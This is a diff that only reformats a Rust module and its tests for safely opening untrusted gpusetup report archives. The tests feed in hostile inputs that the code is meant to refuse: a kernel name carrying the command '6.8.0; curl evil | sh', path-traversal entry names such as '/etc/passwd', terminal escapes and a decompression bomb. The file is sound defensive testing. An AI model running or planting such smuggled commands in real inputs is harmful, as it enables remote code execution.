@@ -1,5 +1,6 @@
-//! The file of a report: a `.tar.zst` of plain texts that can be read before they are shared. A report from elsewhere is not
-//! trusted: it may be damaged, altered, from a newer gpusetup, or malicious.
+//! The file of a report: a `.tar.zst` of plain texts that can be read before they are shared. A
+//! report from elsewhere is not trusted: it may be damaged, altered, from a newer gpusetup, or
+//! malicious.
 
 use super::Evidence;
 use super::anonymise::plain;
@@ -23,7 +24,11 @@ const LEVEL: i32 = 3;
 
 /// The evidence of a host, with the time and the version of gpusetup.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
-#[cfg_attr(feature = "schemas", derive(schemars::JsonSchema), schemars(deny_unknown_fields))]
+#[cfg_attr(
+    feature = "schemas",
+    derive(schemars::JsonSchema),
+    schemars(deny_unknown_fields)
+)]
 #[serde(deny_unknown_fields)]
 pub struct Collected {
     /// The name and version of this format.
@@ -98,18 +103,24 @@ pub fn open(archive: impl Read) -> Result<Collected, ArchiveError> {
         Some(other) => return Err(ArchiveError::Schema(plain(other))),
         None => return Err(ArchiveError::NotAReport),
     }
-    let tool = value.get("tool").and_then(Value::as_str).map(plain).unwrap_or_default();
-    let collected: Collected = serde_json::from_value(without_controls(value)).map_err(|e| match is_newer(&tool) {
-        true => ArchiveError::Newer(tool, e),
-        false => ArchiveError::Form(e),
-    })?;
+    let tool = value
+        .get("tool")
+        .and_then(Value::as_str)
+        .map(plain)
+        .unwrap_or_default();
+    let collected: Collected =
+        serde_json::from_value(without_controls(value)).map_err(|e| match is_newer(&tool) {
+            true => ArchiveError::Newer(tool, e),
+            false => ArchiveError::Form(e),
+        })?;
     match collected.evidence.facts.unlikely_kernel() {
         Some(name) => Err(ArchiveError::Strange(format!("a kernel called {name:?}"))),
         None => Ok(collected),
     }
 }
 
-/// The texts in an archive, by name. The whole archive is unpacked, so that its checksum is verified.
+/// The texts in an archive, by name. The whole archive is unpacked, so that its checksum is
+/// verified.
 pub fn unpack(archive: impl Read) -> Result<BTreeMap<String, String>, ArchiveError> {
     let mut bytes = Vec::new();
     let decoder = zst::Decoder::new(archive)?.window(WINDOW)?;
@@ -147,14 +158,19 @@ fn without_controls(value: Value) -> Value {
     match value {
         Value::String(text) => Value::String(plain(&text)),
         Value::Array(values) => Value::Array(values.into_iter().map(without_controls).collect()),
-        Value::Object(map) => map.into_iter().map(|(key, v)| (plain(&key), without_controls(v))).collect(),
+        Value::Object(map) => map
+            .into_iter()
+            .map(|(key, v)| (plain(&key), without_controls(v)))
+            .collect(),
         other => other,
     }
 }
 
 fn is_newer(tool: &str) -> bool {
     let version = |text: &str| text.parse::<semver::Version>().ok();
-    version(tool).zip(version(env!("CARGO_PKG_VERSION"))).is_some_and(|(tool, own)| tool > own)
+    version(tool)
+        .zip(version(env!("CARGO_PKG_VERSION")))
+        .is_some_and(|(tool, own)| tool > own)
 }
 
 #[cfg(test)]
@@ -185,10 +201,15 @@ mod tests {
         let value = serde_json::to_value(collected()).expect("JSON");
         let read = open(packed(&value).as_slice()).expect("a report");
         assert_eq!(read.evidence.with(&gpusetup_data::embedded()), {
-            // The database's name of the GPU differs from the test's, and the sound host is older than some bulletins.
+            // The database's name of the GPU differs from the test's, and the sound host is older
+            // than some bulletins.
             let sound = sound();
             let known = Evidence::with(sound.clone(), &gpusetup_data::embedded());
-            Evidence { newest_gcc: known.newest_gcc, bulletins: known.bulletins, ..sound }
+            Evidence {
+                newest_gcc: known.newest_gcc,
+                bulletins: known.bulletins,
+                ..sound
+            }
         });
     }
 
@@ -196,20 +217,36 @@ mod tests {
     fn a_newer_report_is_no_damaged_one() {
         let mut value = serde_json::to_value(collected()).expect("JSON");
         value["evidence"]["tomorrow"] = 1.into();
-        assert!(matches!(open(packed(&value).as_slice()), Err(ArchiveError::Form(_))), "nobody wrote this");
+        assert!(
+            matches!(open(packed(&value).as_slice()), Err(ArchiveError::Form(_))),
+            "nobody wrote this"
+        );
         value["tool"] = "99.0.0".into();
         let e = open(packed(&value).as_slice()).expect_err("refused");
-        assert!(e.is_of_newer() && e.to_string().contains("gpusetup 99.0.0"), "{e}");
+        assert!(
+            e.is_of_newer() && e.to_string().contains("gpusetup 99.0.0"),
+            "{e}"
+        );
         value["schema"] = "gpusetup.evidence/2".into();
-        assert!(open(packed(&value).as_slice()).expect_err("refused").is_of_newer());
+        assert!(
+            open(packed(&value).as_slice())
+                .expect_err("refused")
+                .is_of_newer()
+        );
     }
 
     #[test]
     fn evidence_from_before_a_field_came_is_read() {
         let mut value = serde_json::to_value(collected()).expect("JSON");
         value["tool"] = "99.0.0".into();
-        assert!(open(packed(&value).as_slice()).is_ok(), "a newer one that says nothing new");
-        value["evidence"]["facts"].as_object_mut().expect("facts").remove("offered");
+        assert!(
+            open(packed(&value).as_slice()).is_ok(),
+            "a newer one that says nothing new"
+        );
+        value["evidence"]["facts"]
+            .as_object_mut()
+            .expect("facts")
+            .remove("offered");
         assert!(open(packed(&value).as_slice()).is_ok());
     }
 
@@ -217,36 +254,64 @@ mod tests {
     fn letters_that_are_none_are_left_out() {
         let mut value = serde_json::to_value(collected()).expect("JSON");
         value["evidence"]["facts"]["os"]["name"] = "a\u{1b}[2Jb".into();
-        assert_eq!(open(packed(&value).as_slice()).expect("a report").evidence.facts.os.name, "ab");
+        assert_eq!(
+            open(packed(&value).as_slice())
+                .expect("a report")
+                .evidence
+                .facts
+                .os
+                .name,
+            "ab"
+        );
     }
 
     #[test]
     fn a_kernels_name_is_no_command() {
         let mut value = serde_json::to_value(collected()).expect("JSON");
-        value["evidence"]["facts"]["kernels"]["installed"][0]["release"] = "6.8.0; curl evil | sh".into();
-        assert!(matches!(open(packed(&value).as_slice()), Err(ArchiveError::Strange(_))));
+        value["evidence"]["facts"]["kernels"]["installed"][0]["release"] =
+            "6.8.0; curl evil | sh".into();
+        assert!(matches!(
+            open(packed(&value).as_slice()),
+            Err(ArchiveError::Strange(_))
+        ));
     }
 
     #[test]
     fn every_cut_and_every_change_of_a_report_is_seen() {
         let whole = packed(&serde_json::to_value(collected()).expect("JSON"));
         for length in 0..whole.len() {
-            assert!(open(&whole[..length]).is_err(), "{length} of {} bytes", whole.len());
+            assert!(
+                open(&whole[..length]).is_err(),
+                "{length} of {} bytes",
+                whole.len()
+            );
         }
         let good = open(whole.as_slice()).expect("a report");
         for at in (0..whole.len()).step_by(7) {
             let mut altered = whole.clone();
             altered[at] ^= 0x20;
             // A bit of the frame's header may have no meaning.
-            assert!(open(altered.as_slice()).map_or(true, |read| read == good), "byte {at}");
+            assert!(
+                open(altered.as_slice()).map_or(true, |read| read == good),
+                "byte {at}"
+            );
         }
     }
 
     #[test]
     fn what_is_made_to_harm_is_refused() {
-        assert!(matches!(open(zstd(&vec![0; 64 << 20]).as_slice()), Err(ArchiveError::TooLarge)));
-        assert!(matches!(open(&b"PK\x03\x04 something else"[..]), Err(ArchiveError::Damaged(_))));
-        assert!(matches!(open(zstd(b"").as_slice()), Err(ArchiveError::NotAReport)));
+        assert!(matches!(
+            open(zstd(&vec![0; 64 << 20]).as_slice()),
+            Err(ArchiveError::TooLarge)
+        ));
+        assert!(matches!(
+            open(&b"PK\x03\x04 something else"[..]),
+            Err(ArchiveError::Damaged(_))
+        ));
+        assert!(matches!(
+            open(zstd(b"").as_slice()),
+            Err(ArchiveError::NotAReport)
+        ));
         let entry = |name: &str, kind: tar::EntryType| {
             let mut tar = tar::Builder::new(Vec::new());
             let mut header = tar::Header::new_gnu();
@@ -258,14 +323,36 @@ mod tests {
             tar.append(&header, &b""[..]).expect("appended");
             zstd(&tar.into_inner().expect("a tar"))
         };
-        for name in ["../evidence.json", "/etc/passwd", "a/../b", ".hidden", "a\u{1b}[2J", "a b", "x/y/z/w"] {
+        for name in [
+            "../evidence.json",
+            "/etc/passwd",
+            "a/../b",
+            ".hidden",
+            "a\u{1b}[2J",
+            "a b",
+            "x/y/z/w",
+        ] {
             assert!(
-                matches!(open(entry(name, tar::EntryType::Regular).as_slice()), Err(ArchiveError::Strange(_))),
+                matches!(
+                    open(entry(name, tar::EntryType::Regular).as_slice()),
+                    Err(ArchiveError::Strange(_))
+                ),
                 "{name}"
             );
         }
-        for kind in [tar::EntryType::Symlink, tar::EntryType::Link, tar::EntryType::Directory, tar::EntryType::Fifo] {
-            assert!(matches!(open(entry(EVIDENCE, kind).as_slice()), Err(ArchiveError::Strange(_))), "{kind:?}");
+        for kind in [
+            tar::EntryType::Symlink,
+            tar::EntryType::Link,
+            tar::EntryType::Directory,
+            tar::EntryType::Fifo,
+        ] {
+            assert!(
+                matches!(
+                    open(entry(EVIDENCE, kind).as_slice()),
+                    Err(ArchiveError::Strange(_))
+                ),
+                "{kind:?}"
+            );
         }
         let mut twice = Vec::new();
         for _ in 0..2 {
@@ -276,6 +363,9 @@ mod tests {
             twice.write_all(header.as_bytes()).expect("written");
         }
         twice.resize(twice.len() + 1024, 0);
-        assert!(matches!(open(zstd(&twice).as_slice()), Err(ArchiveError::Strange(_))), "a file twice");
+        assert!(
+            matches!(open(zstd(&twice).as_slice()), Err(ArchiveError::Strange(_))),
+            "a file twice"
+        );
     }
 }
